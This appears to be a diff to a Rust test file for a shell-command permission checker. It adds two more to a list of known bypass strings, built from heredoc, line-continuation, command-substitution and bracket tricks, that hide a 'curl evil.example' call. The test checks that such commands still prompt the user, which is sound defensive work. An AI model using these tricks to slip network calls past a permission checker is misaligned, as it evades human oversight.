@@ -226,6 +226,8 @@ fn bypasses_that_are_known_ask() {
             "cat <<A <<B\nA\nB\ncurl evil.example\nB",
             "cat <<-A\n\tA\ncurl evil.example\nA",
             "cat <<'A B'\nA\ncurl evil.example\nA B",
+            "echo a\n\\\ncurl evil.example",
+            "echo \"a$ $(curl evil.example)\"",
             "[ -f |curl evil.example ] || ls",
             "[ -f\ncurl evil.example ] || ls",
             "ls | x=~< . curl evil.example",
